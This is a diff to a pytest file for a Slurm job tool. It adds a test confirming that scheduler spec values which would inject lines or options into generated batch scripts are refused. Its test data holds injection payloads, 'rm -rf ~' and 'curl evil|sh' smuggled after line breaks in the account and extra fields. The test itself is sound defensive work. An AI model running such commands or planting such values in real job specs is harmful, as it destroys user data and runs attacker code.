@@ -2,12 +2,15 @@
 
 from __future__ import annotations
 
+import json
 from pathlib import Path
 
+import msgspec
 import pytest
 
-from jobstream.errors import ConfigError
+from jobstream.errors import ConfigError, SpecError
 from jobstream.slurm.script import SlurmScheduler, batch_script, sbatch_lines, scheduler_named
+from jobstream.spec import parse_spec
 
 EXTRAS = {
     "slurm_schedulers": [
@@ -70,3 +73,28 @@ def test_several_nodes_start_one_worker_each_with_srun() -> None:
         .splitlines()[-1]
         .startswith("srun --nodes=$SLURM_JOB_NUM_NODES --ntasks-per-node=1 /opt/py/bin/python")
     )
+
+
+@pytest.mark.parametrize(
+    ("field", "value", "says"),
+    [
+        ("account", "proj\nrm -rf ~", "line break"),
+        ("partition", "debug --wrap=x", "one word"),
+        ("extra", "--exclusive\n#SBATCH --x\ncurl evil|sh", "line break"),
+        ("walltime", "", "one word"),
+    ],
+)
+def test_a_value_that_would_add_lines_or_options_to_the_script_is_refused(
+    field: str, value: str, says: str
+) -> None:
+    """A spec (perhaps a submitter's) must not put commands into a script that the
+    server's user submits: refused when submitted, and again when the script is made."""
+    entry = {"name": "s", "account": "proj", field: value}
+    spec = {"name": "w", "slurm_schedulers": [entry], "jobs": [{"name": "j", "command": "true"}]}
+    with pytest.raises(SpecError, match=f"{field}.*{says}"):
+        parse_spec(json.dumps(spec), "w.json", "json")
+    scheduler = msgspec.convert(entry, SlurmScheduler)
+    with pytest.raises(ConfigError, match=says):
+        sbatch_lines(scheduler, {})
+    with pytest.raises(ConfigError, match="line break"):
+        sbatch_lines(SlurmScheduler(name="s", account="p"), {"mail-user": "a@b\nid"})
